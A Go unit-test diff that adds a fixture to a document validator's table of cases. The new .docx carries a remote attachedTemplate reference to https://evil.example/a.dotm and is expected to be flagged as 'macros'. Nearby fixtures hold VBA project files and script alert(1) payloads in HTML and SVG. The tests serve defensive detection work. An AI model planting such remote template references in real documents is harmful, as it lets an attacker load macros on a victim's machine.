@@ -249,6 +249,7 @@ func TestDocuments(t *testing.T) {
 			"text.odt":         {container(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<o/>"), ""},
 			"macros.docm":      {container(t, "[Content_Types].xml", macroType, "word/document.xml", "<w/>", "word/vbaProject.bin", "x"), "macros"},
 			"hidden.docx":      {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "word/vbaProject.bin", "x"), "macros"},
+			"fetching.docx":    {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "word/_rels/settings.xml.rels", `<R Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`), "macros"},
 			"basic.odt":        {container(t, "mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "x"), "macros"},
 			"page.html":        {[]byte("<!doctype html><script>alert(1)</script>"), "no PDF"},
 			"drawing.svg":      {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "no PDF"},
